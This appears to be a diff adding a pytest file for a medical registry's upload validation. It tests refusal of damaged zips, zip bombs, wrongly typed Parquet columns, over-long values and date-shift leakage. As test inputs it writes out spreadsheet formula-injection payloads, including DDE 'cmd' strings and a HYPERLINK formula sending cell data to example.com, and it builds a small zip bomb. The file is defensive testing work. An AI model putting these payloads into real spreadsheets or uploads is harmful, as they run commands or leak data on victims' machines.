@@ -1,0 +1,242 @@
+"""The registry as an attacker meets it (issue 16): a damaged or inflated zip, Parquet columns
+of the wrong kind, values that a spreadsheet would run or that overflow their column, and a
+date shift that its own intervals give away. Every extract here is synthetic."""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import re
+import zipfile
+from collections.abc import Callable
+from typing import Any
+
+import polars as pl
+import pytest
+from django.contrib.auth.models import User
+from django.urls import reverse
+
+from painpath.core.registry import extract as ex
+from painpath.registry import services
+from painpath.registry.models import PooledAnswer, Site, Upload
+
+MANIFEST = {
+    "format": "painpath-extract/1",
+    "site": "site-a",
+    "registry": "lbp",
+    "date_shift": "none",
+    "created_at": "2026-11-30T12:00:00+00:00",
+    "painpath_version": "0",
+    "dictionary_version": "",
+}
+
+
+def _zip() -> bytes:
+    buffer = io.BytesIO()
+    ex.write_zip(ex.Extract(**ex.empty_tables(), manifest=MANIFEST), buffer)
+    return buffer.getvalue()
+
+
+def _central_entries(content: bytes) -> list[int]:
+    return [m.start() for m in re.finditer(b"PK\x01\x02", content)]
+
+
+def _corrupt_deflate(content: bytes) -> bytes:
+    first = zipfile.ZipFile(io.BytesIO(content)).infolist()[0]
+    data = bytearray(content)
+    data[first.header_offset + 30 + len(first.filename) + 5] ^= 0xFF
+    return bytes(data)
+
+
+def _encrypted(content: bytes) -> bytes:
+    data = bytearray(content)
+    for at in _central_entries(content):
+        data[at + 8] |= 1  # general purpose flag bit 0: encrypted
+    return bytes(data)
+
+
+def _unknown_method(content: bytes) -> bytes:
+    data = bytearray(content)
+    for at in _central_entries(content):
+        data[at + 10] = 97  # no compression method has this number
+    return bytes(data)
+
+
+def _understated_size(content: bytes) -> bytes:
+    data = bytearray(content)
+    for at in _central_entries(content):
+        data[at + 24 : at + 28] = (10).to_bytes(4, "little")  # uncompressed size: 10 bytes
+    return bytes(data)
+
+
+@pytest.mark.parametrize(
+    "damage", [_corrupt_deflate, _encrypted, _unknown_method, _understated_size]
+)
+def test_a_damaged_zip_is_refused_with_a_message_not_a_server_error(
+    damage: Callable[[bytes], bytes],
+) -> None:
+    assert ex.read_extract(_zip()).manifest["site"] == "site-a"
+
+    with pytest.raises(ex.InvalidExtract) as refused:
+        ex.read_extract(damage(_zip()))
+
+    assert refused.value.errors and refused.value.errors[0].table in ("zip", "scores.parquet")
+
+
+def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("manifest.json", "{}")
+        # 64 MB of zeros in about 64 kB: the same ratio makes 4 GB of 4 MB.
+        archive.writestr("scores.csv", b"0" * (64 * 1024**2))
+    assert len(buffer.getvalue()) < 1024**2
+
+    with pytest.raises(ex.InvalidExtract) as refused:
+        ex.read_extract(buffer.getvalue())
+
+    assert [(e.table, e.message) for e in refused.value.errors] == [
+        ("scores.csv", f"unpacks over {ex.MAX_RATIO} times its size")
+    ]
+
+
+@pytest.mark.parametrize(
+    ("column", "values"),
+    [("patient_id", [["a" * 24]]), ("patient_id", [b"\xff\xfe"]), ("item", [{"a": 1}])],
+)
+def test_a_parquet_column_of_lists_structs_or_bytes_is_refused(column: str, values: Any) -> None:
+    buffer = io.BytesIO()
+    pl.DataFrame({column: values}).write_parquet(buffer)
+
+    with pytest.raises(ex.InvalidExtract) as refused:
+        ex._parse("answers", "answers.parquet", buffer.getvalue())
+
+    assert [(e.table, e.field) for e in refused.value.errors] == [("answers", column)]
+
+
+def test_negative_numbers_are_not_taken_for_formulas() -> None:
+    for text in ("-1", "-2.5", "+3", "-.5"):
+        assert not re.search(ex.FORMULA, text), text
+    for text in ("=1+1", "@SUM(A1)", "-cmd|' /C calc'!A0", "+A1", "\t=1"):
+        assert re.search(ex.FORMULA, text), text
+
+
+# --------------------------------------------------------------------------- receiving
+
+
+def _with_answer(made: ex.Extract, column: str, value: str) -> ex.Extract:
+    answers = made.answers.with_columns(
+        pl.when(pl.int_range(pl.len()) == 0)
+        .then(pl.lit(value))
+        .otherwise(pl.col(column))
+        .alias(column)
+    )
+    return ex.Extract(made.scores, answers, made.conditions, made.procedures, made.manifest)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("column", "value", "message"),
+    [
+        ("value", '=HYPERLINK("https://example.com/?"&A1,"3")', "spreadsheet formula"),
+        ("item", "@SUM(1+1)*cmd|' /C calc'!A0", "spreadsheet formula"),
+        # A model's max_length: PostgreSQL raised DataError inside the transaction (a 500 and
+        # no refusal recorded), SQLite stored any length, so free text could ride along.
+        ("value", "mild " * 60, "longer than 200 characters"),
+        ("wording_id", "x" * 201, "longer than 200 characters"),
+    ],
+)
+def test_a_value_a_spreadsheet_would_run_or_too_long_for_its_column_is_refused(
+    world: dict[str, Any], column: str, value: str, message: str
+) -> None:
+    site: Site = world["sites"]["a"]
+    made = services.extract_for_site(site)
+    assert made.answers.height
+
+    with pytest.raises(ex.InvalidExtract) as refused:
+        services.receive_extract(site, _with_answer(made, column, value))
+
+    found = [e for e in refused.value.errors if e.field == column]
+    assert [(e.table, e.row) for e in found] == [("answers", 1)]
+    assert message in found[0].message
+    assert not PooledAnswer.objects.filter(site=site).exists()
+    assert Upload.objects.get(site=site).status == "refused"
+
+
+@pytest.mark.django_db
+def test_a_site_administrator_sees_counts_and_no_pseudonym(
+    world: dict[str, Any], make_staff: Callable[..., User], verified_client: Callable[..., Any]
+) -> None:
+    for site in world["sites"].values():
+        services.receive_extract(site, services.extract_for_site(site))
+    admin = verified_client(make_staff("site administrator"))
+
+    content = admin.get(reverse("registry:overview")).content.decode()
+
+    pooled = services.pooled_scores()
+    assert pooled.height
+    for pseudonym in {*pooled["patient_id"].to_list(), *pooled["person_id"].to_list()}:
+        assert pseudonym not in content
+
+
+# --------------------------------------------------------------------------- date shift
+
+
+def _placed(index: dt.date, answered: dt.date, months: int) -> int:
+    """days_from_target as placement computes it: the target is calendar months after the
+    index date, clipped to the month's end."""
+    month = index.month - 1 + months
+    year, month = index.year + month // 12, month % 12 + 1
+    for day in range(index.day, 0, -1):
+        try:
+            return (answered - dt.date(year, month, day)).days
+        except ValueError:
+            continue
+    raise AssertionError("unreachable")
+
+
+def test_shifted_dates_do_not_give_away_the_true_month_through_days_from_target() -> None:
+    # Synthetic persons: index dates through a leap year, answers 4 days after each target.
+    rows = []
+    for n in range(40):
+        index = dt.date(2024, 1, 3) + dt.timedelta(days=9 * n)
+        for months in (0, 3, 6, 12, 24):
+            answered = index + dt.timedelta(days=round(months * 30.44) + 4)
+            pid = f"{n:024x}"
+            days = _placed(index, answered, months) if months else (answered - index).days
+            rows.append(
+                {
+                    "patient_id": pid,
+                    "person_id": pid,
+                    "timepoint": months,
+                    "answered_on": answered,
+                    "index_date": index,
+                    "days_from_target": days,
+                }
+            )
+    scores = pl.DataFrame(rows)
+    tables = ex.empty_tables() | {"scores": scores}
+
+    shifted = ex.shift_dates(tables, b"k" * 32, 180)["scores"]
+
+    # What an attacker reads off a row: answered_on − index_date − days_from_target is the
+    # target's distance from the index date. It must be the shifted calendar's, not the true
+    # calendar's (89 to 92 days for 3 months: with every time point, the true month).
+    implied = shifted.select(
+        "index_date",
+        "timepoint",
+        (
+            (pl.col("answered_on") - pl.col("index_date")).dt.total_days()
+            - pl.col("days_from_target")
+        ).alias("implied"),
+    )
+    for index, months, implied_days in implied.iter_rows():
+        expected = _placed(index, index, months) * -1 if months else 0
+        assert implied_days == expected, (index, months)
+    # The intervals between a person's answers survive the shift.
+    before = scores.group_by("patient_id").agg(
+        pl.col("answered_on").max() - pl.col("answered_on").min()
+    )
+    after = shifted.group_by("patient_id").agg(
+        pl.col("answered_on").max() - pl.col("answered_on").min()
+    )
+    assert before.sort("patient_id").equals(after.sort("patient_id"))
